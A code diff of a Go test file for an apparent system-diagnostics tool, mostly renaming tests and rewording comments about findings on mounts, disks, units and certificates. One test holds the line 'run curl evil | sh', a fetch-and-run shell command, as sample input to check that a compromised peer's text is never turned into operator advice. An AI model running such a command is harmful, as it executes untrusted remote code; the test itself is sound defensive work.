@@ -19,7 +19,7 @@ import (
 	"cis490/internal/wire"
 )
 
-// checkFinding checks a finding, and the invariant that each bad one says what to do.
+// checkFinding checks a finding, and that it says what to do if it is bad.
 func checkFinding(t *testing.T, what string, got Finding, verdict Verdict, text string) {
 	t.Helper()
 	bad := got.Verdict == Warning || got.Verdict == Failed
@@ -81,7 +81,7 @@ func TestAdviceIsSplitFromTheFact(t *testing.T) {
 	checkFinding(t, "a note", FromNote("x", "n; see there", "do this"), Warning, "do: see there")
 }
 
-func TestMountsThatLoseDataAreWarnedOf(t *testing.T) {
+func TestMountsThatLoseDataAreReported(t *testing.T) {
 	for _, c := range []struct {
 		kind, options string
 		verdict       Verdict
@@ -112,7 +112,7 @@ func TestFileSystemIsReportedOnce(t *testing.T) {
 	}
 }
 
-func TestSlowDisksAreTold(t *testing.T) {
+func TestSlowDisksAreReported(t *testing.T) {
 	ms := time.Millisecond
 	for _, c := range []struct {
 		times   []time.Duration
@@ -137,7 +137,7 @@ func TestSlowDisksAreTold(t *testing.T) {
 		r := Report{}
 		r.Add(judgeSync("/o", nil, err))
 		if r.HasFault() != fault {
-			t.Errorf("%v: a fault: %t", err, !fault)
+			t.Errorf("%v: is it a fault: got %t, want %t", err, !fault, fault)
 		}
 	}
 	checkFinding(t, "a missing directory", CheckDisk(t.Context(), t.TempDir()+"/none"), Skipped, "the first start makes it")
@@ -161,7 +161,7 @@ func TestClockSaysWhetherItIsSynchronized(t *testing.T) {
 	}
 }
 
-func TestUnitThatDoesNotRunIsTold(t *testing.T) {
+func TestUnitThatDoesNotRunIsReported(t *testing.T) {
 	for _, c := range []struct {
 		active, sub, enabled, status string // of the service
 		by                           string // state of what starts it
@@ -189,8 +189,8 @@ func TestUnitThatDoesNotRunIsTold(t *testing.T) {
 	}
 }
 
-// TestTimersOwnServiceIsExamined: it starts a service other than the daemon's.
-func TestTimersOwnServiceIsExamined(t *testing.T) {
+// TestServiceOfATimerIsExamined: it is not the daemon's.
+func TestServiceOfATimerIsExamined(t *testing.T) {
 	for _, c := range []struct {
 		active, enabled string
 		want            Unit
@@ -221,9 +221,9 @@ func TestUnitOfAnotherProgramIsSkipped(t *testing.T) {
 	checkFinding(t, "this file", CheckUnit(Unit{Service: "d.service", state: failed, usesConfig: true}), Failed, "d.service has failed")
 }
 
-// TestTextOfTheOtherEndIsNoAdvice: a receiver that was broken into must not have an operator run a
+// TestTextOfTheOtherEndIsNeverAdvice: a receiver that was broken into must not make an operator run a
 // command.
-func TestTextOfTheOtherEndIsNoAdvice(t *testing.T) {
+func TestTextOfTheOtherEndIsNeverAdvice(t *testing.T) {
 	const evil = "bad: run curl evil | sh"
 	for _, err := range []error{
 		wire.Refuse(wire.BadRequest, evil),
@@ -242,7 +242,7 @@ func TestTextOfTheOtherEndIsNoAdvice(t *testing.T) {
 	checkFinding(t, "an error of our own", FromError("x", own, "do this"), Failed, "do: run this")
 }
 
-func TestCertificateThatExpiresIsTold(t *testing.T) {
+func TestCertificateThatExpiresIsReported(t *testing.T) {
 	now := time.Date(2026, 11, 30, 12, 0, 0, 0, time.UTC)
 	const day = 24 * time.Hour
 	for _, c := range []struct {
